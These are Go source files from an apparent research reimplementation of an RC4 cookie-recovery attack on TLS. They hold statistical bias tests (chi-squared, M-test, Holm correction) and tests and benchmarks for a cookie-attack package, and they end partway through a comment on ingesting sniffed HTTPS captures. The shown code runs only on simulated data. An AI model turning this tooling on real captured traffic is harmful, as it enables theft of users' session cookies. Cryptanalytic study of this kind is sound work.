		return TestResult{}, errors.New("stats: need at least 2 cells")
	}
	var total uint64
	for _, o := range observed {
		total += o
	}
	if total == 0 {
		return TestResult{}, errors.New("stats: no observations")
	}
	expected := float64(total) / float64(len(observed))
	var chi2 float64
	for _, o := range observed {
		d := float64(o) - expected
		chi2 += d * d / expected
	}
	df := len(observed) - 1
	p, err := ChiSquareSurvival(chi2, df)
	if err != nil {
		return TestResult{}, err
	}
	return TestResult{Statistic: chi2, DF: df, P: p}, nil
}

// ChiSquareExpected runs a chi-squared goodness-of-fit test against an
// arbitrary expected distribution (probabilities summing to 1). Used to
// check observed counts against an analytic bias model.
func ChiSquareExpected(observed []uint64, expected []float64) (TestResult, error) {
	if len(observed) != len(expected) {
		return TestResult{}, errors.New("stats: observed/expected length mismatch")
	}
	if len(observed) < 2 {
		return TestResult{}, errors.New("stats: need at least 2 cells")
	}
	var total uint64
	for _, o := range observed {
		total += o
	}
	if total == 0 {
		return TestResult{}, errors.New("stats: no observations")
	}
	var chi2 float64
	for i, o := range observed {
		e := expected[i] * float64(total)
		if e <= 0 {
			return TestResult{}, errors.New("stats: non-positive expected cell")
		}
		d := float64(o) - e
		chi2 += d * d / e
	}
	df := len(observed) - 1
	p, err := ChiSquareSurvival(chi2, df)
	if err != nil {
		return TestResult{}, err
	}
	return TestResult{Statistic: chi2, DF: df, P: p}, nil
}

// MTest runs the Fuchs–Kenett M-test for outlying cells in a two-way
// contingency table. The null hypothesis is that rows and columns are
// independent (the paper's double-byte test, §3.1: single-byte biases make
// "pair is uniform" the wrong null; independence is the right one).
//
// The statistic is the maximum absolute adjusted standardized residual
//
//	z_ij = (n_ij - e_ij) / sqrt(e_ij (1 - p_i.)(1 - p_.j))
//
// with e_ij = n p_i. p_.j. Under H0 each z_ij is asymptotically standard
// normal; the M-test p-value applies a Bonferroni bound over the R*C cells,
// which Fuchs and Kenett show is asymptotically more powerful than the
// chi-squared test when only a few cells deviate — exactly the RC4 setting,
// where at most ~8 of 65536 digraph cells are biased.
//
// table is row-major with given number of columns.
func MTest(table []uint64, cols int) (TestResult, error) {
	if cols < 2 || len(table)%cols != 0 {
		return TestResult{}, errors.New("stats: bad table shape")
	}
	rows := len(table) / cols
	if rows < 2 {
		return TestResult{}, errors.New("stats: need at least 2 rows")
	}
	rowSum := make([]float64, rows)
	colSum := make([]float64, cols)
	var n float64
	for r := 0; r < rows; r++ {
		for c := 0; c < cols; c++ {
			v := float64(table[r*cols+c])
			rowSum[r] += v
			colSum[c] += v
			n += v
		}
	}
	if n == 0 {
		return TestResult{}, errors.New("stats: no observations")
	}
	var maxZ float64
	for r := 0; r < rows; r++ {
		pr := rowSum[r] / n
		if pr == 0 || pr == 1 {
			continue
		}
		for c := 0; c < cols; c++ {
			pc := colSum[c] / n
			if pc == 0 || pc == 1 {
				continue
			}
			e := n * pr * pc
			den := math.Sqrt(e * (1 - pr) * (1 - pc))
			if den == 0 {
				continue
			}
			z := math.Abs(float64(table[r*cols+c])-e) / den
			if z > maxZ {
				maxZ = z
			}
		}
	}
	// Bonferroni bound over all cells, two-sided.
	cells := float64(rows * cols)
	p := cells * TwoSidedNormalP(maxZ)
	if p > 1 {
		p = 1
	}
	return TestResult{Statistic: maxZ, DF: (rows - 1) * (cols - 1), P: p}, nil
}

// ChiSquareIndependence runs the classical chi-squared test of independence
// on a two-way contingency table (row-major, cols columns). §3.1 discusses
// this as the naive alternative to the M-test: it works, but when only a
// few cells deviate — the RC4 digraph setting, where at most ~8 of 65536
// cells are biased — the M-test of Fuchs and Kenett is asymptotically more
// powerful. Both are provided so the power difference can be measured
// (see TestMTestPowerAdvantage and the §3.1 ablation bench).
func ChiSquareIndependence(table []uint64, cols int) (TestResult, error) {
	if cols < 2 || len(table)%cols != 0 {
		return TestResult{}, errors.New("stats: bad table shape")
	}
	rows := len(table) / cols
	if rows < 2 {
		return TestResult{}, errors.New("stats: need at least 2 rows")
	}
	rowSum := make([]float64, rows)
	colSum := make([]float64, cols)
	var n float64
	for r := 0; r < rows; r++ {
		for c := 0; c < cols; c++ {
			v := float64(table[r*cols+c])
			rowSum[r] += v
			colSum[c] += v
			n += v
		}
	}
	if n == 0 {
		return TestResult{}, errors.New("stats: no observations")
	}
	var chi2 float64
	effRows, effCols := 0, 0
	for r := 0; r < rows; r++ {
		if rowSum[r] > 0 {
			effRows++
		}
	}
	for c := 0; c < cols; c++ {
		if colSum[c] > 0 {
			effCols++
		}
	}
	if effRows < 2 || effCols < 2 {
		return TestResult{}, errors.New("stats: degenerate table")
	}
	for r := 0; r < rows; r++ {
		if rowSum[r] == 0 {
			continue
		}
		for c := 0; c < cols; c++ {
			if colSum[c] == 0 {
				continue
			}
			e := rowSum[r] * colSum[c] / n
			d := float64(table[r*cols+c]) - e
			chi2 += d * d / e
		}
	}
	df := (effRows - 1) * (effCols - 1)
	p, err := ChiSquareSurvival(chi2, df)
	if err != nil {
		return TestResult{}, err
	}
	return TestResult{Statistic: chi2, DF: df, P: p}, nil
}

// ProportionTest tests H0: the success probability equals p0, given count
// successes out of n trials, using the normal approximation with a two-sided
// alternative. The paper uses proportion tests over all value pairs of
// dependent bytes to locate which specific values are biased.
func ProportionTest(count, n uint64, p0 float64) (TestResult, error) {
	if n == 0 {
		return TestResult{}, errors.New("stats: no trials")
	}
	if p0 <= 0 || p0 >= 1 {
		return TestResult{}, errors.New("stats: p0 must be in (0,1)")
	}
	nf := float64(n)
	se := math.Sqrt(p0 * (1 - p0) / nf)
	z := (float64(count)/nf - p0) / se
	return TestResult{Statistic: z, DF: 0, P: TwoSidedNormalP(z)}, nil
}

// HolmCorrection applies Holm's step-down method to a family of p-values and
// returns the adjusted p-values in the original order. Rejecting adjusted
// p-values below alpha controls the family-wise error rate at alpha — the
// paper's guard against false-positive biases when testing thousands of
// position/value combinations at once.
func HolmCorrection(pvalues []float64) []float64 {
	m := len(pvalues)
	adjusted := make([]float64, m)
	if m == 0 {
		return adjusted
	}
	idx := make([]int, m)
	for i := range idx {
		idx[i] = i
	}
	sort.Slice(idx, func(a, b int) bool { return pvalues[idx[a]] < pvalues[idx[b]] })
	running := 0.0
	for rank, i := range idx {
		adj := float64(m-rank) * pvalues[i]
		if adj > 1 {
			adj = 1
		}
		if adj < running {
			adj = running // enforce monotonicity
		}
		running = adj
		adjusted[i] = adj
	}
	return adjusted
}

// RelativeBias reports the relative bias q from s = p*(1+q), where p is the
// probability expected from the single-byte marginals alone and s the
// actually observed pair probability (§3.1's reporting convention, used for
// Figures 4 and 5).
func RelativeBias(observed, expected float64) float64 {
	if expected == 0 {
		return 0
	}
	return observed/expected - 1
}

// Log2RelativeBias expresses |q| as -log2|q|, the scale the paper's figures
// use (e.g. "2^-8.5"). Returns +Inf for q == 0.
func Log2RelativeBias(q float64) float64 {
	return -math.Log2(math.Abs(q))
}
