package stats

import (
	"math"
	"math/rand"
	"testing"
	"testing/quick"
)

func TestRegularizedGammaKnownValues(t *testing.T) {
	// Reference values computed from the standard identities:
	// P(1, x) = 1 - e^-x; P(0.5, x) = erf(sqrt(x)).
	cases := []struct{ a, x float64 }{
		{1, 0.5}, {1, 2}, {1, 10},
		{0.5, 0.25}, {0.5, 1}, {0.5, 4},
	}
	for _, c := range cases {
		got, err := RegularizedGammaP(c.a, c.x)
		if err != nil {
			t.Fatalf("P(%v,%v): %v", c.a, c.x, err)
		}
		var want float64
		if c.a == 1 {
			want = 1 - math.Exp(-c.x)
		} else {
			want = math.Erf(math.Sqrt(c.x))
		}
		if math.Abs(got-want) > 1e-12 {
			t.Errorf("P(%v,%v) = %v, want %v", c.a, c.x, got, want)
		}
	}
}

func TestGammaPQComplement(t *testing.T) {
	f := func(a, x float64) bool {
		a = math.Abs(a)
		x = math.Abs(x)
		if a == 0 || a > 1e6 || x > 1e6 {
			return true
		}
		p, err1 := RegularizedGammaP(a, x)
		q, err2 := RegularizedGammaQ(a, x)
		if err1 != nil || err2 != nil {
			return false
		}
		return math.Abs(p+q-1) < 1e-10
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestGammaErrors(t *testing.T) {
	if _, err := RegularizedGammaP(-1, 1); err == nil {
		t.Error("negative a accepted")
	}
	if _, err := RegularizedGammaP(1, -1); err == nil {
		t.Error("negative x accepted")
	}
	if _, err := RegularizedGammaQ(0, 1); err == nil {
		t.Error("zero a accepted")
	}
	if p, err := RegularizedGammaP(3, 0); err != nil || p != 0 {
		t.Error("P(a,0) should be 0")
	}
	if q, err := RegularizedGammaQ(3, 0); err != nil || q != 1 {
		t.Error("Q(a,0) should be 1")
	}
}

func TestChiSquareSurvivalKnownValues(t *testing.T) {
	// Chi-squared with 1 df: Pr[X >= z²] = 2*(1-Φ(z)).
	cases := []struct {
		x    float64
		df   int
		want float64
		tol  float64
	}{
		{3.841, 1, 0.05, 1e-3},  // 95th percentile, 1 df
		{6.635, 1, 0.01, 1e-3},  // 99th percentile, 1 df
		{11.070, 5, 0.05, 1e-3}, // 95th percentile, 5 df
		{293.25, 255, 0.05, 2e-3} /* 95th pct, 255 df */}
	for _, c := range cases {
		got, err := ChiSquareSurvival(c.x, c.df)
		if err != nil {
			t.Fatal(err)
		}
		if math.Abs(got-c.want) > c.tol {
			t.Errorf("ChiSquareSurvival(%v,%d) = %v, want ~%v", c.x, c.df, got, c.want)
		}
	}
	if p, _ := ChiSquareSurvival(-3, 4); p != 1 {
		t.Error("negative statistic should give p=1")
	}
	if _, err := ChiSquareSurvival(1, 0); err == nil {
		t.Error("df=0 accepted")
	}
}

func TestNormalCDF(t *testing.T) {
	cases := []struct{ z, want float64 }{
		{0, 0.5}, {1.6448536, 0.95}, {2.3263479, 0.99}, {-1.6448536, 0.05},
	}
	for _, c := range cases {
		if got := NormalCDF(c.z); math.Abs(got-c.want) > 1e-6 {
			t.Errorf("NormalCDF(%v) = %v, want %v", c.z, got, c.want)
		}
	}
	f := func(z float64) bool {
		if math.Abs(z) > 30 {
			return true
		}
		return math.Abs(NormalCDF(z)+NormalSurvival(z)-1) < 1e-12
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestChiSquareUniformDetectsBias(t *testing.T) {
	// Uniform data should not be rejected; strongly biased data should be.
	rng := rand.New(rand.NewSource(42))
	uniform := make([]uint64, 256)
	biased := make([]uint64, 256)
	const n = 1 << 20
	for i := 0; i < n; i++ {
		uniform[rng.Intn(256)]++
		// Value 0 twice as likely — the Mantin–Shamir Z2 shape.
		v := rng.Intn(257)
		if v >= 256 {
			v = 0
		}
		biased[v]++
	}
	ru, err := ChiSquareUniform(uniform)
	if err != nil {
		t.Fatal(err)
	}
	if ru.Rejected() {
		t.Errorf("uniform data rejected: p=%g chi2=%g", ru.P, ru.Statistic)
	}
	rb, err := ChiSquareUniform(biased)
	if err != nil {
		t.Fatal(err)
	}
	if !rb.Rejected() {
		t.Errorf("biased data not rejected: p=%g", rb.P)
	}
}

func TestChiSquareUniformErrors(t *testing.T) {
	if _, err := ChiSquareUniform(nil); err == nil {
		t.Error("nil accepted")
	}
	if _, err := ChiSquareUniform([]uint64{0, 0}); err == nil {
		t.Error("all-zero accepted")
	}
}

func TestChiSquareExpected(t *testing.T) {
	// Observed drawn exactly proportional to expected: p should be ~1.
	expected := []float64{0.5, 0.25, 0.25}
	observed := []uint64{5000, 2500, 2500}
	r, err := ChiSquareExpected(observed, expected)
	if err != nil {
		t.Fatal(err)
	}
	if r.Statistic != 0 || r.P < 0.999 {
		t.Errorf("perfect fit: chi2=%v p=%v", r.Statistic, r.P)
	}
	if _, err := ChiSquareExpected(observed, expected[:2]); err == nil {
		t.Error("length mismatch accepted")
	}
	if _, err := ChiSquareExpected([]uint64{1, 2}, []float64{1, 0}); err == nil {
		t.Error("zero expected cell accepted")
	}
}

func TestMTestIndependence(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	const dim = 16
	indep := make([]uint64, dim*dim)
	dep := make([]uint64, dim*dim)
	const n = 1 << 20
	for i := 0; i < n; i++ {
		indep[rng.Intn(dim)*dim+rng.Intn(dim)]++
		// Dependent: one cell (3,5) boosted, like a single FM-style digraph.
		if rng.Float64() < 0.002 {
			dep[3*dim+5]++
		} else {
			dep[rng.Intn(dim)*dim+rng.Intn(dim)]++
		}
	}
	ri, err := MTest(indep, dim)
	if err != nil {
		t.Fatal(err)
	}
	if ri.Rejected() {
		t.Errorf("independent table rejected: M=%v p=%g", ri.Statistic, ri.P)
	}
	rd, err := MTest(dep, dim)
	if err != nil {
		t.Fatal(err)
	}
	if !rd.Rejected() {
		t.Errorf("dependent table not rejected: M=%v p=%g", rd.Statistic, rd.P)
	}
}

func TestMTestMorePowerfulThanChiSqForOutliers(t *testing.T) {
	// The reason the paper picks the M-test: a single outlying cell in a
	// large table. Build a table where the M-test rejects decisively.
	rng := rand.New(rand.NewSource(99))
	const dim = 64
	tbl := make([]uint64, dim*dim)
	const n = 1 << 22
	for i := 0; i < n; i++ {
		if rng.Float64() < 0.0004 {
			tbl[10*dim+20]++
		} else {
			tbl[rng.Intn(dim)*dim+rng.Intn(dim)]++
		}
	}
	rm, err := MTest(tbl, dim)
	if err != nil {
		t.Fatal(err)
	}
	if !rm.Rejected() {
		t.Errorf("M-test failed to find single outlier cell: p=%g", rm.P)
	}
}

func TestMTestErrors(t *testing.T) {
	if _, err := MTest([]uint64{1, 2, 3}, 2); err == nil {
		t.Error("ragged table accepted")
	}
	if _, err := MTest([]uint64{1, 2}, 2); err == nil {
		t.Error("single row accepted")
	}
	if _, err := MTest(make([]uint64, 4), 2); err == nil {
		t.Error("empty table accepted")
	}
}

func TestProportionTest(t *testing.T) {
	// Exact null proportion: z ~ 0.
	r, err := ProportionTest(500000, 1000000, 0.5)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(r.Statistic) > 0.01 || r.P < 0.9 {
		t.Errorf("null proportion: z=%v p=%v", r.Statistic, r.P)
	}
	// A 2x bias at p0=1/256 with 10^6 trials is decisively detected.
	r, err = ProportionTest(7812, 1000000, 1.0/256)
	if err != nil {
		t.Fatal(err)
	}
	if !r.Rejected() {
		t.Errorf("2x bias not detected: p=%g", r.P)
	}
	if _, err := ProportionTest(1, 0, 0.5); err == nil {
		t.Error("zero trials accepted")
	}
	if _, err := ProportionTest(1, 10, 0); err == nil {
		t.Error("p0=0 accepted")
	}
	if _, err := ProportionTest(1, 10, 1); err == nil {
		t.Error("p0=1 accepted")
	}
}

func TestHolmCorrection(t *testing.T) {
	// Canonical example: p = (0.01, 0.04, 0.03) with m=3.
	// Sorted: 0.01*3=0.03, 0.03*2=0.06, 0.04*1=0.04 -> monotone: 0.03, 0.06, 0.06.
	adj := HolmCorrection([]float64{0.01, 0.04, 0.03})
	want := []float64{0.03, 0.06, 0.06}
	for i := range want {
		if math.Abs(adj[i]-want[i]) > 1e-12 {
			t.Errorf("adj[%d] = %v, want %v", i, adj[i], want[i])
		}
	}
	if len(HolmCorrection(nil)) != 0 {
		t.Error("nil input should give empty output")
	}
	// Property: adjusted >= raw, capped at 1, order of rejections preserved.
	f := func(raw []float64) bool {
		for i := range raw {
			raw[i] = math.Abs(math.Mod(raw[i], 1))
		}
		adj := HolmCorrection(raw)
		for i := range raw {
			if adj[i] < raw[i]-1e-15 || adj[i] > 1 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestRelativeBias(t *testing.T) {
	if q := RelativeBias(1.5, 1.0); math.Abs(q-0.5) > 1e-15 {
		t.Errorf("q = %v, want 0.5", q)
	}
	if q := RelativeBias(0.5, 1.0); math.Abs(q+0.5) > 1e-15 {
		t.Errorf("q = %v, want -0.5", q)
	}
	if q := RelativeBias(1, 0); q != 0 {
		t.Error("zero expected should yield 0")
	}
	// 2^-8 relative bias reports as 8 on the figure scale.
	if l := Log2RelativeBias(1.0 / 256); math.Abs(l-8) > 1e-12 {
		t.Errorf("Log2RelativeBias = %v, want 8", l)
	}
}

func TestChiSquareIndependence(t *testing.T) {
	rng := rand.New(rand.NewSource(21))
	const dim = 8
	indep := make([]uint64, dim*dim)
	dep := make([]uint64, dim*dim)
	const n = 1 << 18
	for i := 0; i < n; i++ {
		indep[rng.Intn(dim)*dim+rng.Intn(dim)]++
		// Dependent: diagonal boosted.
		if rng.Float64() < 0.05 {
			d := rng.Intn(dim)
			dep[d*dim+d]++
		} else {
			dep[rng.Intn(dim)*dim+rng.Intn(dim)]++
		}
	}
	ri, err := ChiSquareIndependence(indep, dim)
	if err != nil {
		t.Fatal(err)
	}
	if ri.Rejected() {
		t.Errorf("independent table rejected: p=%g", ri.P)
	}
	rd, err := ChiSquareIndependence(dep, dim)
	if err != nil {
		t.Fatal(err)
	}
	if !rd.Rejected() {
		t.Errorf("dependent table not rejected: p=%g", rd.P)
	}
}

func TestChiSquareIndependenceErrors(t *testing.T) {
	if _, err := ChiSquareIndependence([]uint64{1, 2, 3}, 2); err == nil {
		t.Error("ragged table accepted")
	}
	if _, err := ChiSquareIndependence([]uint64{1, 2}, 2); err == nil {
		t.Error("single row accepted")
	}
	if _, err := ChiSquareIndependence(make([]uint64, 4), 2); err == nil {
		t.Error("empty table accepted")
	}
	// Degenerate: all mass in one row.
	if _, err := ChiSquareIndependence([]uint64{5, 7, 0, 0}, 2); err == nil {
		t.Error("degenerate table accepted")
	}
}

func TestMTestPowerAdvantage(t *testing.T) {
	// The §3.1 design rationale made measurable: with a single outlying
	// cell in a large table, the M-test must produce a (much) smaller
	// p-value than the chi-squared independence test. This is Fuchs &
	// Kenett's asymptotic result at finite scale.
	rng := rand.New(rand.NewSource(33))
	const dim = 64
	tbl := make([]uint64, dim*dim)
	const n = 1 << 21
	for i := 0; i < n; i++ {
		if rng.Float64() < 0.0006 {
			tbl[17*dim+42]++
		} else {
			tbl[rng.Intn(dim)*dim+rng.Intn(dim)]++
		}
	}
	rm, err := MTest(tbl, dim)
	if err != nil {
		t.Fatal(err)
	}
	rc, err := ChiSquareIndependence(tbl, dim)
	if err != nil {
		t.Fatal(err)
	}
	if rm.P >= rc.P {
		t.Errorf("M-test p=%g should beat chi-squared p=%g on a single outlier", rm.P, rc.P)
	}
	if !rm.Rejected() {
		t.Errorf("M-test failed to reject: p=%g", rm.P)
	}
}
