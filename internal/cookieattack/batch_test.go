package cookieattack

import (
	"bytes"
	"fmt"
	"math/rand"
	"testing"
)

// batchTestConfig mirrors the benchmark/netsim request shape: a 16-byte
// cookie with ample known plaintext on both sides and the paper's gap
// bound.
func batchTestConfig(tb testing.TB, plen int) Config {
	tb.Helper()
	pt := make([]byte, plen)
	rand.New(rand.NewSource(11)).Read(pt)
	return Config{
		CookieLen:   16,
		Offset:      40,
		Plaintext:   pt,
		CounterBase: 7,
		MaxGap:      128,
	}
}

func randomBodies(n, plen, stride int, seed int64) []byte {
	flat := make([]byte, n*stride)
	rand.New(rand.NewSource(seed)).Read(flat)
	return flat
}

// TestObserveRecordsMatchesScalar pins the tentpole contract: the batched
// fold is bitwise identical to sequential ObserveRecord for any chunking
// split and any worker count. Chunk sizes cover single records, a
// non-divisor, a mid-size batch, and the whole capture in one call.
func TestObserveRecordsMatchesScalar(t *testing.T) {
	const n, plen = 200, 192
	cfg := batchTestConfig(t, plen)
	for _, stride := range []int{plen, plen + 23} {
		flat := randomBodies(n, plen, stride, 42)

		ref, err := New(cfg)
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < n; i++ {
			if err := ref.ObserveRecord(flat[i*stride : i*stride+plen]); err != nil {
				t.Fatal(err)
			}
		}
		want := snapshotBytes(t, ref)

		for _, chunk := range []int{1, 7, 64, n} {
			for _, workers := range []int{1, 4} {
				a, err := New(cfg)
				if err != nil {
					t.Fatal(err)
				}
				a.Workers = workers
				for start := 0; start < n; start += chunk {
					cnt := min(chunk, n-start)
					if err := a.ObserveRecords(flat[start*stride:], cnt, stride); err != nil {
						t.Fatal(err)
					}
				}
				if a.Records != uint64(n) {
					t.Fatalf("stride=%d chunk=%d workers=%d: Records=%d, want %d",
						stride, chunk, workers, a.Records, n)
				}
				if got := snapshotBytes(t, a); !bytes.Equal(got, want) {
					t.Fatalf("stride=%d chunk=%d workers=%d: batched fold diverges from scalar ObserveRecord",
						stride, chunk, workers)
				}
			}
		}
	}
}

// TestObserveRecordsRejectsBadBatches pins the argument validation: a
// stride shorter than the modeled plaintext is the scalar short-record
// error, and a flat buffer shorter than its declared record count is
// rejected before any evidence is touched.
func TestObserveRecordsRejectsBadBatches(t *testing.T) {
	cfg := batchTestConfig(t, 96)
	a, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if err := a.ObserveRecords(make([]byte, 96*4), 4, 95); err == nil {
		t.Fatal("short stride accepted")
	}
	if err := a.ObserveRecords(make([]byte, 96*4-1), 4, 96); err == nil {
		t.Fatal("short flat buffer accepted")
	}
	if err := a.ObserveRecords(nil, -1, 96); err == nil {
		t.Fatal("negative batch size accepted")
	}
	if err := a.ObserveRecords(nil, 0, 96); err != nil {
		t.Fatalf("empty batch rejected: %v", err)
	}
	if a.Records != 0 {
		t.Fatalf("rejected batches advanced Records to %d", a.Records)
	}
	want := snapshotBytes(t, a)
	fresh, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(want, snapshotBytes(t, fresh)) {
		t.Fatal("rejected batches touched the evidence tables")
	}
}

// FuzzObserveRecordsBatch cross-checks batched and scalar folding on
// fuzzer-chosen record bodies and chunk splits — the CI fuzz-smoke leg for
// the batch fold, next to the scanner's chunking-invariance target.
func FuzzObserveRecordsBatch(f *testing.F) {
	const plen = 64
	cfg := Config{
		CookieLen:   8,
		Offset:      20,
		Plaintext:   bytes.Repeat([]byte("known-pt"), plen/8),
		CounterBase: 3,
		MaxGap:      32,
	}
	f.Add([]byte("seed record bytes for the fold"), uint8(3), uint8(2))
	f.Add(bytes.Repeat([]byte{0xA7}, 4*plen), uint8(1), uint8(4))
	f.Fuzz(func(t *testing.T, data []byte, chunk, workers uint8) {
		n := len(data) / plen
		if n == 0 || n > 64 {
			t.Skip()
		}
		flat := data[:n*plen]
		ref, err := New(cfg)
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < n; i++ {
			if err := ref.ObserveRecord(flat[i*plen : (i+1)*plen]); err != nil {
				t.Fatal(err)
			}
		}
		a, err := New(cfg)
		if err != nil {
			t.Fatal(err)
		}
		a.Workers = int(workers%8) + 1
		step := int(chunk)%n + 1
		for start := 0; start < n; start += step {
			cnt := min(step, n-start)
			if err := a.ObserveRecords(flat[start*plen:], cnt, plen); err != nil {
				t.Fatal(err)
			}
		}
		want := snapshotBytes(t, ref)
		got := snapshotBytes(t, a)
		if !bytes.Equal(got, want) {
			t.Fatalf("batched fold diverges from scalar (n=%d chunk=%d workers=%d)", n, step, a.Workers)
		}
	})
}

// BenchmarkObserveRecords isolates the evidence-folding kernel — the hot
// path behind BenchmarkTraceIngest/tls — at the collector's batch size.
func BenchmarkObserveRecords(b *testing.B) {
	const n, plen = 2048, 192
	cfg := batchTestConfig(b, plen)
	a, err := New(cfg)
	if err != nil {
		b.Fatal(err)
	}
	var ops int
	for _, anchors := range a.AnchorsPerPair() {
		ops += anchors
	}
	b.Logf("anchor ops per record: %d", ops)
	flat := randomBodies(n, plen, plen, 7)
	b.SetBytes(int64(n * plen))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := a.ObserveRecords(flat, n, plen); err != nil {
			b.Fatal(err)
		}
	}
	_ = fmt.Sprintf("%d", a.Records)
}
