package cookieattack

import (
	"bytes"
	"errors"
	"math/rand"
	"path/filepath"
	"testing"

	"rc4break/internal/snapshot"
)

// snapshotBytes is the test's canonical evidence comparison: two attacks
// with bitwise-identical config and evidence serialize identically.
func snapshotBytes(t *testing.T, a *Attack) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := a.WriteSnapshot(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestSimulateStatisticsParallelBitwiseEqualsSequential(t *testing.T) {
	cookie := "0123456789abcdef"
	cfg := testConfig(cookie)

	run := func(workers int) []byte {
		a, err := New(cfg)
		if err != nil {
			t.Fatal(err)
		}
		a.Workers = workers
		if err := a.SimulateStatistics(rand.New(rand.NewSource(42)), []byte(cookie), 1<<24); err != nil {
			t.Fatal(err)
		}
		return snapshotBytes(t, a)
	}

	sequential := run(1)
	for _, workers := range []int{2, 3, 8, 0} {
		if !bytes.Equal(sequential, run(workers)) {
			t.Fatalf("workers=%d evidence differs from sequential run", workers)
		}
	}
}

func TestSnapshotRoundTrip(t *testing.T) {
	cookie := "0123456789abcdef"
	cfg := testConfig(cookie)
	a, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if err := a.SimulateStatistics(rand.New(rand.NewSource(3)), []byte(cookie), 1<<20); err != nil {
		t.Fatal(err)
	}

	raw := snapshotBytes(t, a)
	b, err := ReadSnapshot(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	if b.Records != a.Records || b.Fingerprint() != a.Fingerprint() {
		t.Fatal("snapshot lost records or fingerprint")
	}
	// The resumed attack is fully equivalent: identical serialized state.
	if !bytes.Equal(raw, snapshotBytes(t, b)) {
		t.Fatal("resumed attack serializes differently")
	}
}

func TestSnapshotFileRoundTrip(t *testing.T) {
	cookie := "0123456789abcdef"
	a, err := New(testConfig(cookie))
	if err != nil {
		t.Fatal(err)
	}
	if err := a.SimulateStatistics(rand.New(rand.NewSource(4)), []byte(cookie), 1<<16); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "cookie.snap")
	if err := a.WriteSnapshotFile(path); err != nil {
		t.Fatal(err)
	}
	b, err := ReadSnapshotFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(snapshotBytes(t, a), snapshotBytes(t, b)) {
		t.Fatal("file round trip altered evidence")
	}
}

func TestSnapshotCorruptionDetected(t *testing.T) {
	cookie := "0123456789abcdef"
	a, err := New(testConfig(cookie))
	if err != nil {
		t.Fatal(err)
	}
	raw := snapshotBytes(t, a)

	if _, err := ReadSnapshot(bytes.NewReader(raw[:len(raw)/3])); !errors.Is(err, snapshot.ErrTruncated) {
		t.Fatalf("truncated snapshot: want ErrTruncated, got %v", err)
	}
	flipped := append([]byte(nil), raw...)
	flipped[len(flipped)/2] ^= 0x40
	if _, err := ReadSnapshot(bytes.NewReader(flipped)); !errors.Is(err, snapshot.ErrChecksum) {
		t.Fatalf("flipped byte: want ErrChecksum, got %v", err)
	}
}

func TestMergeCombinesShardsAndRejectsMismatch(t *testing.T) {
	cookie := "0123456789abcdef"
	cfg := testConfig(cookie)

	// Two independently-seeded shards versus one pool that observed both
	// shards' evidence: merging must add counters exactly.
	shard1, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	shard2, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if err := shard1.SimulateStatistics(rand.New(rand.NewSource(100)), []byte(cookie), 1<<20); err != nil {
		t.Fatal(err)
	}
	if err := shard2.SimulateStatistics(rand.New(rand.NewSource(200)), []byte(cookie), 1<<20); err != nil {
		t.Fatal(err)
	}

	pool, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if err := pool.SimulateStatistics(rand.New(rand.NewSource(100)), []byte(cookie), 1<<20); err != nil {
		t.Fatal(err)
	}
	if err := pool.SimulateStatistics(rand.New(rand.NewSource(200)), []byte(cookie), 1<<20); err != nil {
		t.Fatal(err)
	}

	if err := shard1.Merge(shard2); err != nil {
		t.Fatal(err)
	}
	if shard1.Records != 2<<20 {
		t.Fatalf("merged records %d", shard1.Records)
	}
	for r := range pool.fm {
		if !equalU64(pool.fm[r], shard1.fm[r]) {
			t.Fatalf("link %d FM counts differ between merged shards and single pool", r)
		}
	}

	// A shard captured against a different layout must be rejected.
	otherCfg := testConfig("fedcba9876543210")
	otherCfg.MaxGap = 64
	other, err := New(otherCfg)
	if err != nil {
		t.Fatal(err)
	}
	if err := shard1.Merge(other); err == nil {
		t.Fatal("merge across mismatched configs accepted")
	}
}

func equalU64(a, b []uint64) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func BenchmarkSimulateStatisticsSequential(b *testing.B) {
	benchmarkSimulate(b, 1)
}

func BenchmarkSimulateStatisticsParallel(b *testing.B) {
	benchmarkSimulate(b, 0)
}

func benchmarkSimulate(b *testing.B, workers int) {
	cookie := "0123456789abcdef"
	cfg := testConfig(cookie)
	a, err := New(cfg)
	if err != nil {
		b.Fatal(err)
	}
	a.Workers = workers
	rng := rand.New(rand.NewSource(1))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := a.SimulateStatistics(rng, []byte(cookie), 1<<28); err != nil {
			b.Fatal(err)
		}
	}
}
