package cookieattack

import (
	"errors"
	"fmt"
	"io"

	"rc4break/internal/tlsrec"
	"rc4break/internal/trace"
)

// This file is the §6.3 collection tool's offline half: rebuild the TCP
// streams of a sniffed HTTPS capture (pcap or pcapng, Ethernet or raw
// IPv4), scan each flow for TLS records, and fold the fixed-size encrypted
// requests into an Attack's digraph/ABSAB statistics — "this requires
// reassembling the TCP and TLS streams, and then detecting the 512-byte
// (encrypted) HTTP requests". Evidence ingested from a capture netsim
// wrote is bitwise identical to what the in-process victim hands the
// attack directly.

// ErrTraceShort reports a strict observation-range ingest (a fleet lane)
// that ran out of capture before the range was filled.
var ErrTraceShort = errors.New("cookieattack: capture ended before the requested observation range was filled")

// foldBatch is how many matched record bodies the collector accumulates
// before one ObserveRecords call. The fold cycles all 17 half-megabyte
// ABSAB tables through L2 once per batch, so the batch must be large enough
